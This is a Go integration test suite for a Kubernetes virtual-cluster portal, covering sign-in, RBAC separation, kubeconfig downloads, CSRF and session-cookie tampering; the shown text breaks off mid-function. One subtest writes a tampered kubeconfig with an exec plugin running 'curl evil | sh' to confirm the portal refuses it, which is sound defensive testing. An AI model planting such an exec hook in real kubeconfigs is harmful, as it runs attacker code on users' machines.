package portal_test

import (
	"context"
	"crypto/rand"
	"crypto/x509"
	"encoding/pem"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/kubenest-io/kubenest/api/v1alpha1"
	"github.com/kubenest-io/kubenest/internal/testenv"
	"github.com/kubenest-io/kubenest/pkg/controlplane"
	"github.com/kubenest-io/kubenest/pkg/kubeconfig"
	"github.com/kubenest-io/kubenest/pkg/portal"
)

const (
	portalNS   = "kubenest-system"
	signerUser = "system:serviceaccount:" + portalNS + ":portal-signer"
)

// world is a host API server under RBAC with the chart's portal roles, three users and a
// portal in front of it.
type world struct {
	env   *testenv.Env
	cs    kubernetes.Interface
	url   string
	clock *atomic.Int64 // nanoseconds added to the real time
	alice string        // token of alice, who may use team-a (and read its Secrets)
	bob   string        // token of bob, who may use team-b (but read no Secret)
	carol string        // token of carol, who may use nothing
}

func TestPortal(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()

	// alpha in team-a is Ready with a real CA and a kubeconfig Secret; beta is bob's.
	alpha := w.readyVC(t, ctx, "team-a", "alpha")
	w.createVC(t, ctx, "team-b", "beta")

	t.Run("sign-in", func(t *testing.T) {
		b := newBrowser(t, w.url)
		// Not signed in: every page leads to the sign-in page.
		if resp := b.get(t, "/", nil); resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/login" {
			t.Errorf("GET / signed out: %d %s", resp.StatusCode, resp.Header.Get("Location"))
		}
		if resp := b.get(t, "/ns/team-a/vc/alpha/status", http.Header{"X-Requested-With": {"fetch"}}); resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("status fragment signed out: %d, want 401", resp.StatusCode)
		}
		// A token the host does not accept.
		resp, body := b.login(t, "not-a-token")
		if resp.StatusCode != http.StatusUnauthorized || !strings.Contains(body, "did not accept this token") {
			t.Errorf("bad token: %d %s", resp.StatusCode, body)
		}
		if b.sessionCookie() != nil {
			t.Error("a session cookie after a refused token")
		}
		// The sign-in form's CSRF token is required.
		resp, _ = b.post(t, "/login", url.Values{"token": {w.alice}})
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("sign-in without CSRF token: %d, want 403", resp.StatusCode)
		}
		resp, _ = b.post(t, "/login", url.Values{"token": {w.alice}, "csrf": {"forged"}})
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("sign-in with a wrong CSRF token: %d, want 403", resp.StatusCode)
		}
		// A good token.
		resp, _ = b.login(t, w.alice)
		if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/" {
			t.Fatalf("sign-in: %d %s", resp.StatusCode, resp.Header.Get("Location"))
		}
		var set *http.Cookie
		for _, c := range resp.Cookies() {
			if c.Name == "kubenest_session" {
				set = c
			}
		}
		if set == nil {
			t.Fatal("no session cookie")
		}
		if !set.HttpOnly || set.SameSite != http.SameSiteLaxMode || set.Secure || set.MaxAge <= 0 || set.MaxAge > 3600 {
			t.Errorf("session cookie attributes: %+v", set)
		}
		if strings.Contains(set.Value, w.alice) || strings.Contains(set.Value, "alice") {
			t.Error("the session cookie shows the token or the user in clear")
		}
		_, body = b.get200(t, "/")
		if !strings.Contains(body, "system:serviceaccount:team-a:alice") {
			t.Error("the list page does not show who is signed in")
		}
	})

	t.Run("impersonation: each user sees only their namespace", func(t *testing.T) {
		a := w.signIn(t, w.alice)
		_, body := a.get200(t, "/")
		if !strings.Contains(body, `data-vc="team-a/alpha"`) || strings.Contains(body, "beta") || strings.Contains(body, "team-b") {
			t.Errorf("alice's list:\n%s", body)
		}
		b := w.signIn(t, w.bob)
		_, body = b.get200(t, "/")
		if !strings.Contains(body, `data-vc="team-b/beta"`) || strings.Contains(body, "alpha") {
			t.Errorf("bob's list:\n%s", body)
		}
		// Bob names alice's namespace: it is only a place to look, and he sees nothing there.
		resp, _ := b.post(t, "/namespaces", url.Values{"namespace": {"team-a"}, "csrf": {b.csrf}})
		if resp.StatusCode != http.StatusSeeOther {
			t.Fatalf("open namespace: %d", resp.StatusCode)
		}
		_, body = b.get200(t, "/")
		if strings.Contains(body, "alpha") || strings.Contains(body, `id="ns-team-a"`) {
			t.Errorf("bob sees team-a after naming it:\n%s", body)
		}
		c := w.signIn(t, w.carol)
		_, body = c.get200(t, "/")
		if !strings.Contains(body, `id="no-namespaces"`) || strings.Contains(body, `id="new-vc"`) {
			t.Errorf("carol's empty list:\n%s", body)
		}
	})

	t.Run("forbidden paths", func(t *testing.T) {
		a := w.signIn(t, w.alice)
		b := w.signIn(t, w.bob)
		c := w.signIn(t, w.carol)
		for _, tc := range []struct {
			who          *browser
			method, path string
			want         int
		}{
			{a, "GET", "/ns/team-b/vc/beta", http.StatusForbidden},
			{a, "GET", "/ns/team-b/vc/beta/status", http.StatusForbidden},
			{a, "GET", "/ns/team-b/vc/beta/kubeconfig", http.StatusForbidden},
			{a, "POST", "/ns/team-b/vc/beta/personal-kubeconfig", http.StatusForbidden},
			{a, "POST", "/ns/team-b/vc/beta/delete", http.StatusForbidden},
			{a, "GET", "/ns/team-a/vc/nope", http.StatusNotFound},
			// bob may use team-b but read no Secret: no admin kubeconfig for him.
			{b, "GET", "/ns/team-b/vc/beta/kubeconfig", http.StatusForbidden},
			{b, "GET", "/ns/team-a/vc/alpha/kubeconfig", http.StatusForbidden},
			{b, "POST", "/ns/team-a/vc/alpha/personal-kubeconfig", http.StatusForbidden},
			{c, "GET", "/ns/team-a/vc/alpha", http.StatusForbidden},
			{c, "GET", "/ns/team-a/vc/alpha/kubeconfig", http.StatusForbidden},
			{c, "POST", "/ns/team-a/vc/alpha/personal-kubeconfig", http.StatusForbidden},
		} {
			var resp *http.Response
			var body string
			if tc.method == "GET" {
				resp, body = tc.who.get(t, tc.path, nil), ""
			} else {
				resp, body = tc.who.post(t, tc.path, url.Values{"csrf": {tc.who.csrf}, "confirm": {"beta"}})
			}
			if resp.StatusCode != tc.want {
				t.Errorf("%s %s %s: %d, want %d %s", tc.who.name, tc.method, tc.path, resp.StatusCode, tc.want, body)
			}
		}
		// Nothing was deleted, and beta is still there.
		if err := w.env.Client.Get(ctx, client.ObjectKey{Namespace: "team-b", Name: "beta"}, &v1alpha1.VirtualCluster{}); err != nil {
			t.Errorf("beta: %v", err)
		}
		// Bob's detail page does not offer what he may not have.
		_, body := b.get200(t, "/ns/team-b/vc/beta")
		if strings.Contains(body, `id="download-admin"`) || !strings.Contains(body, `id="no-admin"`) {
			t.Errorf("bob is offered the admin kubeconfig:\n%s", body)
		}
	})

	t.Run("kubeconfig downloads", func(t *testing.T) {
		a := w.signIn(t, w.alice)
		_, body := a.get200(t, "/ns/team-a/vc/alpha")
		for _, id := range []string{`id="download-admin"`, `id="download-personal"`, `id="delete"`, `id="status"`} {
			if !strings.Contains(body, id) {
				t.Errorf("alice's detail page lacks %s", id)
			}
		}
		resp, data := a.get200(t, "/ns/team-a/vc/alpha/kubeconfig")
		if admin, err := kubeconfig.Parse([]byte(data)); err != nil || admin.Token != "admin-token-of-alpha" ||
			!strings.Contains(resp.Header.Get("Content-Disposition"), `filename="alpha.kubeconfig"`) {
			t.Errorf("admin kubeconfig: %v %q %v", err, data, resp.Header)
		}
		_, data = a.get200(t, "/ns/team-a/vc/alpha/kubeconfig?endpoint=in-cluster")
		if inCluster, err := kubeconfig.Parse([]byte(data)); err != nil || inCluster.Server != "https://alpha-apiserver.kubenest-cp-team-a.svc:6443" {
			t.Errorf("in-cluster admin kubeconfig: %v %q", err, data)
		}
		resp, data = a.post(t, "/ns/team-a/vc/alpha/personal-kubeconfig", url.Values{"csrf": {a.csrf}})
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("personal kubeconfig: %d %s", resp.StatusCode, data)
		}
		kc, err := kubeconfig.Parse([]byte(data))
		if err != nil {
			t.Fatal(err)
		}
		if kc.Server != alpha.Status.Endpoint || kc.User != "host:system:serviceaccount:team-a:alice" {
			t.Errorf("personal kubeconfig server %q user %q", kc.Server, kc.User)
		}
		cert := parseCert(t, kc.ClientCertPEM)
		if cert.Subject.CommonName != kc.User || !slices.Equal(cert.Subject.Organization, []string{controlplane.PortalUsersGroup}) {
			t.Errorf("personal certificate subject %v", cert.Subject)
		}
		if life := time.Until(cert.NotAfter); life < 7*time.Hour || life > 8*time.Hour+time.Minute {
			t.Errorf("personal certificate expires in %s, want 8h", life)
		}
		roots := x509.NewCertPool()
		roots.AppendCertsFromPEM(kc.CAPEM)
		if _, err := cert.Verify(x509.VerifyOptions{Roots: roots, KeyUsages: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth}}); err != nil {
			t.Errorf("personal certificate not signed by the kubeconfig's CA: %v", err)
		}
	})

	t.Run("personal kubeconfig for programs, with a bearer token", func(t *testing.T) {
		call := func(token, path string) (int, string) {
			req, err := http.NewRequest(http.MethodPost, w.url+path, nil)
			if err != nil {
				t.Fatal(err)
			}
			if token != "" {
				req.Header.Set("Authorization", "Bearer "+token)
			}
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			body, _ := io.ReadAll(resp.Body)
			return resp.StatusCode, string(body)
		}
		const alphaPath = "/api/v1/namespaces/team-a/virtualclusters/alpha/personal-kubeconfig"
		code, body := call(w.alice, alphaPath)
		if code != http.StatusOK {
			t.Fatalf("alice: %d %s", code, body)
		}
		if kc, err := kubeconfig.Parse([]byte(body)); err != nil || kc.User != "host:system:serviceaccount:team-a:alice" || kc.Server != alpha.Status.Endpoint {
			t.Errorf("alice's personal kubeconfig: %v %+v", err, kc)
		}
		for _, tc := range []struct {
			who, token, path string
			want             int
			says             string
		}{
			{"nobody", "", alphaPath, http.StatusUnauthorized, "bearer token"},
			{"a made-up token", "not-a-token", alphaPath, http.StatusUnauthorized, "did not accept this token"},
			{"bob", w.bob, alphaPath, http.StatusForbidden, "may not mint a personal kubeconfig for alpha"},
			{"alice, for bob's", w.alice, "/api/v1/namespaces/team-b/virtualclusters/beta/personal-kubeconfig", http.StatusForbidden, "may not"},
			{"alice, for none", w.alice, "/api/v1/namespaces/team-a/virtualclusters/nope/personal-kubeconfig", http.StatusNotFound, "no virtual cluster nope"},
		} {
			if code, body := call(tc.token, tc.path); code != tc.want || !strings.Contains(body, tc.says) {
				t.Errorf("%s: %d %q, want %d saying %q", tc.who, code, body, tc.want, tc.says)
			}
		}
	})

	t.Run("an admin kubeconfig Secret changed by someone else is not handed out", func(t *testing.T) {
		// Anyone who may edit the namespace may write the Secret: a kubeconfig that runs a
		// command on the downloader's machine must not leave the portal.
		s := &corev1.Secret{}
		key := client.ObjectKey{Namespace: "team-a", Name: "alpha-kubeconfig"}
		if err := w.env.Client.Get(ctx, key, s); err != nil {
			t.Fatal(err)
		}
		good := s.Data[controlplane.KeyKubeconfig]
		k, err := clientcmd.Load(good)
		if err != nil {
			t.Fatal(err)
		}
		for _, u := range k.AuthInfos {
			u.Exec = &clientcmdapi.ExecConfig{Command: "/bin/sh", Args: []string{"-c", "curl evil | sh"}, APIVersion: "client.authentication.k8s.io/v1"}
		}
		evil, err := clientcmd.Write(*k)
		if err != nil {
			t.Fatal(err)
		}
		s.Data[controlplane.KeyKubeconfig] = evil
		if err := w.env.Client.Update(ctx, s); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			s.Data[controlplane.KeyKubeconfig] = good
			_ = w.env.Client.Update(ctx, s)
		})
		a := w.signIn(t, w.alice)
		req, _ := http.NewRequest(http.MethodGet, w.url+"/ns/team-a/vc/alpha/kubeconfig", nil)
		resp, body := a.do(t, req)
		if resp.StatusCode != http.StatusConflict || !strings.Contains(body, "an exec credential plugin") || strings.Contains(body, "curl evil") {
			t.Errorf("a tampered admin kubeconfig: %d %s", resp.StatusCode, body)
		}
	})

	t.Run("CSRF", func(t *testing.T) {
		a := w.signIn(t, w.alice)
		form := url.Values{"name": {"csrf-test"}, "namespace": {"team-a"}, "storage": {"ephemeral"}}
		for name, tc := range map[string]struct {
			csrf   string
			header http.Header
		}{
			"missing":      {"", nil},
			"wrong":        {"forged-token-of-the-right-length-000000000000", nil},
			"cross-origin": {a.csrf, http.Header{"Origin": {"https://evil.example"}}},
		} {
			f := url.Values{}
			for k, v := range form {
				f[k] = v
			}
			if tc.csrf != "" {
				f.Set("csrf", tc.csrf)
			}
			resp, body := a.postWith(t, "/new", f, tc.header)
			if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "Request refused") {
				t.Errorf("%s CSRF token: %d", name, resp.StatusCode)
			}
		}
		// What a browser sends for a form of the portal's own page passes.
		resp, _ := a.postWith(t, "/namespaces", url.Values{"csrf": {a.csrf}, "namespace": {"team-a"}}, http.Header{"Origin": {w.url}})
		if resp.StatusCode != http.StatusSeeOther {
			t.Errorf("same-origin form with its CSRF token: %d", resp.StatusCode)
		}
		// Another user's token is no good either.
		b := w.signIn(t, w.bob)
		form.Set("csrf", b.csrf)
		if resp, _ := a.post(t, "/new", form); resp.StatusCode != http.StatusForbidden {
			t.Errorf("another session's CSRF token: %d", resp.StatusCode)
		}
		for _, path := range []string{"/ns/team-a/vc/alpha/delete", "/logout", "/ns/team-a/vc/alpha/personal-kubeconfig"} {
			if resp, _ := a.post(t, path, url.Values{"confirm": {"alpha"}}); resp.StatusCode != http.StatusForbidden {
				t.Errorf("POST %s without CSRF token: %d", path, resp.StatusCode)
			}
		}
		err := w.env.Client.Get(ctx, client.ObjectKey{Namespace: "team-a", Name: "csrf-test"}, &v1alpha1.VirtualCluster{})
		if !apierrors.IsNotFound(err) {
			t.Errorf("a forged form created a cluster: %v", err)
		}
		if err := w.env.Client.Get(ctx, client.ObjectKeyFromObject(alpha), &v1alpha1.VirtualCluster{}); err != nil {
			t.Errorf("alpha: %v", err)
		}
	})

	t.Run("create: validation messages next to their fields", func(t *testing.T) {
		a := w.signIn(t, w.alice)
		for _, tc := range []struct {
			name  string
			form  url.Values
			field string // id of the field the message is next to
			want  string
		}{
			{"name the API server refuses", url.Values{"name": {"Bad_Name"}, "count": {"1"}}, "field-name", "metadata.name"},
			{"name too long for the CEL rule", url.Values{"name": {strings.Repeat("a", 45)}}, "field-name", "at most 40 characters"},
			{"count above the CRD's maximum", url.Values{"name": {"ok"}, "count": {"101"}}, "field-count", "less than or equal to 100"},
			{"count that is not a number", url.Values{"name": {"ok"}, "count": {"three"}}, "field-count", "not a whole number"},
			{"selector that does not parse", url.Values{"name": {"ok"}, "count": {"1"}, "selector": {"a in (b"}}, "field-selector", "Not a label selector"},
			{"exposure outside the enum", url.Values{"name": {"ok"}, "exposure": {"Magic"}}, "field-exposure", "supported values"},
			{"no name", url.Values{"name": {""}}, "field-name", "name or generateName is required"},
			{"a namespace not allowed", url.Values{"name": {"ok"}, "namespace": {"team-b"}}, "field-namespace", "may not create virtual clusters"},
			{"a name taken", url.Values{"name": {"alpha"}}, "field-name", "already exists"},
		} {
			f := tc.form
			if f.Get("namespace") == "" {
				f.Set("namespace", "team-a")
			}
			f.Set("storage", "ephemeral")
			f.Set("csrf", a.csrf)
			resp, body := a.post(t, "/new", f)
			if resp.StatusCode < 400 {
				t.Errorf("%s: %d", tc.name, resp.StatusCode)
				continue
			}
			if got := fieldBlock(body, tc.field); !strings.Contains(got, `class="field-error"`) || !strings.Contains(strings.ToLower(got), strings.ToLower(tc.want)) {
				t.Errorf("%s: %s does not say %q:\n%s\nwhole page:\n%s", tc.name, tc.field, tc.want, got, body)
			}
			// What the user typed stays in the form.
			if n := f.Get("name"); n != "" && !strings.Contains(body, `value="`+n+`"`) {
				t.Errorf("%s: the form lost the name", tc.name)
			}
		}
		// A good one: created as alice, and the browser is sent to its page.
		resp, _ := a.post(t, "/new", url.Values{"csrf": {a.csrf}, "name": {"gamma"}, "namespace": {"team-a"},
			"exposure": {"NodePort"}, "storage": {"ephemeral"}, "count": {"1"}, "selector": {"disktype=ssd"}, "shared": {"on"}})
		if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/ns/team-a/vc/gamma" {
			t.Fatalf("create: %d %s", resp.StatusCode, resp.Header.Get("Location"))
		}
		got := &v1alpha1.VirtualCluster{}
		if err := w.env.Client.Get(ctx, client.ObjectKey{Namespace: "team-a", Name: "gamma"}, got); err != nil {
			t.Fatal(err)
		}
		s := got.Spec
		if s.ControlPlane.Exposure.Type != v1alpha1.ExposureNodePort || s.Etcd.Storage.Ephemeral == nil || !s.Nodes.Shared ||
			len(s.Nodes.Promotions) != 1 || s.Nodes.Promotions[0].Count != 1 || s.Nodes.Promotions[0].Selector.MatchLabels["disktype"] != "ssd" {
			t.Errorf("created spec %+v", s)
		}
		// The detail page of a cluster nobody provisions: pending, with its waiting state.
		_, body := a.get200(t, "/ns/team-a/vc/gamma")
		if !strings.Contains(body, "Pending") || !strings.Contains(body, "Waiting for the operator") {
			t.Errorf("pending detail page:\n%s", body)
		}
		// Its status fragment, which the page fetches to refresh itself.
		req, _ := http.NewRequest(http.MethodGet, w.url+"/ns/team-a/vc/gamma/status", nil)
		req.Header.Set("X-Requested-With", "fetch")
		resp, frag := a.do(t, req)
		if resp.StatusCode != http.StatusOK || !strings.HasPrefix(strings.TrimSpace(frag), `<section id="status"`) || strings.Contains(frag, "<html") {
			t.Errorf("status fragment: %d\n%s", resp.StatusCode, frag)
		}
	})

	t.Run("delete with confirmation", func(t *testing.T) {
		a := w.signIn(t, w.alice)
		w.createVC(t, ctx, "team-a", "doomed")
		_, body := a.get200(t, "/ns/team-a/vc/doomed/delete")
		if !strings.Contains(body, `data-expect="doomed"`) {
			t.Errorf("confirmation page:\n%s", body)
		}
		resp, body := a.post(t, "/ns/team-a/vc/doomed/delete", url.Values{"csrf": {a.csrf}, "confirm": {"wrong"}})
		if resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, "Type doomed to confirm") {
			t.Errorf("delete with a wrong confirmation: %d", resp.StatusCode)
		}
		resp, _ = a.post(t, "/ns/team-a/vc/doomed/delete", url.Values{"csrf": {a.csrf}, "confirm": {"doomed"}})
		if resp.StatusCode != http.StatusSeeOther {
			t.Fatalf("delete: %d", resp.StatusCode)
		}
		err := w.env.Client.Get(ctx, client.ObjectKey{Namespace: "team-a", Name: "doomed"}, &v1alpha1.VirtualCluster{})
		if !apierrors.IsNotFound(err) {
			t.Errorf("doomed after delete: %v", err)
		}
	})

	t.Run("tampered cookie", func(t *testing.T) {
		a := w.signIn(t, w.alice)
		c := a.sessionCookie()
		raw := []byte(c.Value)
		raw[len(raw)/2] ^= 0x01
		if raw[len(raw)/2] == '-' || raw[len(raw)/2] == '_' {
			raw[len(raw)/2] = 'A'
		}
		for name, value := range map[string]string{
			"a flipped byte":        string(raw),
			"garbage":               "not-a-session",
			"sealed by another key": otherPortalCookie(t, w),
			"truncated":             c.Value[:len(c.Value)-4],
		} {
			b := newBrowser(t, w.url)
			b.setSession(value)
			resp := b.get(t, "/", nil)
			if resp.StatusCode != http.StatusSeeOther || !strings.HasPrefix(resp.Header.Get("Location"), "/login") {
				t.Errorf("%s: %d %s", name, resp.StatusCode, resp.Header.Get("Location"))
			}
			if !clears(resp, "kubenest_session") {
				t.Errorf("%s: the bad cookie is not cleared", name)
			}
		}
	})

	t.Run("expired session", func(t *testing.T) {
		a := w.signIn(t, w.alice)
		w.clock.Store(int64(time.Hour + time.Minute))
		defer w.clock.Store(0)
		resp := a.get(t, "/", nil)
		loc, _ := url.Parse(resp.Header.Get("Location"))
		if resp.StatusCode != http.StatusSeeOther || loc.Path != "/login" || !strings.Contains(loc.Query().Get("m"), "expired") {
			t.Fatalf("expired session: %d %s", resp.StatusCode, resp.Header.Get("Location"))
		}
		_, body := a.get200(t, resp.Header.Get("Location"))
		if !strings.Contains(body, "Your session expired") {
			t.Errorf("the sign-in page does not say the session expired")
		}
	})

	t.Run("sign out", func(t *testing.T) {
		a := w.signIn(t, w.alice)
		resp, _ := a.post(t, "/logout", url.Values{"csrf": {a.csrf}})
		if resp.StatusCode != http.StatusSeeOther || !clears(resp, "kubenest_session") {
			t.Errorf("sign out: %d", resp.StatusCode)
		}
	})
}

func newWorld(t *testing.T) *world { return newWorldWith(t, nil, nil) }

// newWorldWith is newWorld with more kube-apiserver flags, and a chance to change the portal's
// configuration once its URL is known.
func newWorldWith(t *testing.T, apiserverFlags []string, configure func(cfg *portal.Config, url string)) *world {
	env := testenv.Start(t, testenv.Options{APIServerFlags: append([]string{"--authorization-mode=RBAC"}, apiserverFlags...)})
	ctx := context.Background()
	c := env.Client
	cs := kubernetes.NewForConfigOrDie(env.Config)
	for _, ns := range []string{portalNS, "team-a", "team-b", "nobody"} {
		if err := c.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}); err != nil {
			t.Fatal(err)
		}
	}
	testenv.CreateFromChartFile(t, ctx, c, "portal-rbac.yaml")
	// The chart's bindings: the portal reviews tokens and impersonates; its signer reads Secrets.
	w := &world{env: env, cs: cs, clock: &atomic.Int64{}}
	portalToken := w.serviceAccount(t, ctx, portalNS, "portal")
	w.serviceAccount(t, ctx, portalNS, "portal-signer")
	bindCluster(t, ctx, c, "kubenest:portal", portalNS, "portal")
	bindCluster(t, ctx, c, "kubenest:portal-signer", portalNS, "portal-signer")
	// alice and bob are tenants of one namespace each; alice may read Secrets there too.
	w.alice = w.serviceAccount(t, ctx, "team-a", "alice")
	w.bob = w.serviceAccount(t, ctx, "team-b", "bob")
	w.carol = w.serviceAccount(t, ctx, "nobody", "carol")
	bindNamespace(t, ctx, c, "team-a", "kubenest:portal-tenant", "alice")
	bindNamespace(t, ctx, c, "team-b", "kubenest:portal-tenant", "bob")
	secretReader := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "secret-reader"},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get"}}}}
	if err := c.Create(ctx, secretReader); err != nil {
		t.Fatal(err)
	}
	bindNamespace(t, ctx, c, "team-a", "secret-reader", "alice")

	host := rest.AnonymousClientConfig(env.Config)
	host.BearerToken = portalToken
	key := make([]byte, 32)
	_, _ = rand.Read(key)
	ts := httptest.NewUnstartedServer(nil)
	w.url = "http://" + ts.Listener.Addr().String()
	cfg := portal.Config{
		Host: host, SessionKey: key, SessionTTL: time.Hour, SignerUser: signerUser,
		Now: func() time.Time { return time.Now().Add(time.Duration(w.clock.Load())) },
	}
	if configure != nil {
		configure(&cfg, w.url)
	}
	srv, err := portal.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ts.Config.Handler = srv
	ts.Start()
	t.Cleanup(ts.Close)
	return w
}

// serviceAccount creates a ServiceAccount and returns a token of it.
func (w *world) serviceAccount(t *testing.T, ctx context.Context, ns, name string) string {
	t.Helper()
	if _, err := w.cs.CoreV1().ServiceAccounts(ns).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	tr, err := w.cs.CoreV1().ServiceAccounts(ns).CreateToken(ctx, name, &authenticationv1.TokenRequest{
		Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: ptr(int64(3600))}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return tr.Status.Token
}

func (w *world) createVC(t *testing.T, ctx context.Context, ns, name string) *v1alpha1.VirtualCluster {
	t.Helper()
	vc := &v1alpha1.VirtualCluster{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns},
		Spec: v1alpha1.VirtualClusterSpec{Etcd: v1alpha1.EtcdSpec{Storage: v1alpha1.EtcdStorage{Ephemeral: &v1alpha1.EphemeralStorage{}}}}}
	if err := w.env.Client.Create(ctx, vc); err != nil {
		t.Fatal(err)
	}
	return vc
}

// readyVC makes a VirtualCluster look as the operator leaves a Ready one: a CA Secret in its
// control-plane namespace, a kubeconfig Secret in its own, an endpoint and conditions.
func (w *world) readyVC(t *testing.T, ctx context.Context, ns, name string) *v1alpha1.VirtualCluster {
	t.Helper()
	vc := w.createVC(t, ctx, ns, name)
	vc.Status.ControlPlaneNamespace = controlplane.Namespace(vc)
	cpNS := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: vc.Status.ControlPlaneNamespace}}
	if err := w.env.Client.Create(ctx, cpNS); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	a, err := controlplane.NewAuthorities(name, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	ca, err := controlplane.CASecret(vc, a)
	if err != nil {
		t.Fatal(err)
	}
	admin, err := kubeconfig.Build(kubeconfig.Config{ClusterName: name, Server: "https://203.0.113.7:31443", CAPEM: a.CABundle(),
		User: "admin", Token: "admin-token-of-" + name})
	if err != nil {
		t.Fatal(err)
	}
	inCluster, err := kubeconfig.Build(kubeconfig.Config{ClusterName: name, Server: controlplane.InClusterEndpoint(vc), CAPEM: a.CABundle(),
		User: "admin", Token: "admin-token-of-" + name})
	if err != nil {
		t.Fatal(err)
	}
	kc := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: name + "-kubeconfig", Namespace: ns},
		Data: map[string][]byte{controlplane.KeyKubeconfig: admin, controlplane.KeyInClusterKubeconfig: inCluster}}
	for _, s := range []*corev1.Secret{ca, kc} {
		s.TypeMeta = metav1.TypeMeta{}
		if err := w.env.Client.Create(ctx, s); err != nil {
			t.Fatal(err)
		}
	}
	vc.Status.Phase = v1alpha1.PhaseReady
	vc.Status.Endpoint = "https://203.0.113.7:31443"
	vc.Status.KubeconfigSecretRef = &v1alpha1.SecretKeyReference{Name: kc.Name, Key: controlplane.KeyKubeconfig}
	for _, c := range []string{v1alpha1.ConditionCertificatesReady, v1alpha1.ConditionReady} {
		meta.SetStatusCondition(&vc.Status.Conditions, metav1.Condition{Type: c, Status: metav1.ConditionTrue, Reason: "Test", Message: "ok"})
	}
	if err := w.env.Client.Status().Update(ctx, vc); err != nil {
		t.Fatal(err)
	}
	return vc
}

func bindCluster(t *testing.T, ctx context.Context, c client.Client, role, ns, sa string) {
	t.Helper()
	crb := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: role + "-" + sa},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role},
		Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: sa, Namespace: ns}}}
	if err := c.Create(ctx, crb); err != nil {
		t.Fatal(err)
	}
}

func bindNamespace(t *testing.T, ctx context.Context, c client.Client, ns, role, sa string) {
	t.Helper()
	rb := &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: strings.ReplaceAll(role, ":", "-") + "-" + sa, Namespace: ns},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role},
		Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: sa, Namespace: ns}}}
	if err := c.Create(ctx, rb); err != nil {
		t.Fatal(err)
	}
}

// otherPortalCookie is a valid-looking session sealed by a portal with another key.
func otherPortalCookie(t *testing.T, w *world) string {
	t.Helper()
	key := make([]byte, 32)
	_, _ = rand.Read(key)
	s, err := portal.NewSealer(key)
	if err != nil {
		t.Fatal(err)
	}
	v, err := s.Seal(portal.Session{User: "system:serviceaccount:team-a:alice", CSRF: "x", Expires: time.Now().Add(time.Hour)})
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// browser is a cookie-keeping HTTP client that does not follow redirects.
type browser struct {
	name string
	base *url.URL
	hc   *http.Client
	csrf string
}

func newBrowser(t *testing.T, base string) *browser {
	t.Helper()
	jar, _ := cookiejar.New(nil)
	u, _ := url.Parse(base)
	return &browser{base: u, hc: &http.Client{Jar: jar, Timeout: 30 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

var csrfRe = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

func (w *world) signIn(t *testing.T, token string) *browser {
	t.Helper()
	b := newBrowser(t, w.url)
	resp, body := b.login(t, token)
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("sign-in: %d %s", resp.StatusCode, body)
	}
	_, body = b.get200(t, "/")
	m := csrfRe.FindStringSubmatch(body)
	if m == nil {
		t.Fatal("no CSRF token on the list page")
	}
	b.csrf = m[1]
	b.name = regexp.MustCompile(`title="Signed in as ([^"]+)"`).FindStringSubmatch(body)[1]
	return b
}

func (b *browser) login(t *testing.T, token string) (*http.Response, string) {
	t.Helper()
	_, body := b.get200(t, "/login")
	m := csrfRe.FindStringSubmatch(body)
	if m == nil {
		t.Fatal("no CSRF token on the sign-in page")
	}
	return b.post(t, "/login", url.Values{"token": {token}, "csrf": {m[1]}})
}

func (b *browser) do(t *testing.T, req *http.Request) (*http.Response, string) {
	t.Helper()
	resp, err := b.hc.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp, string(body)
}

func (b *browser) get(t *testing.T, path string, h http.Header) *http.Response {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, b.base.String()+path, nil)
	for k, v := range h {
		req.Header[k] = v
	}
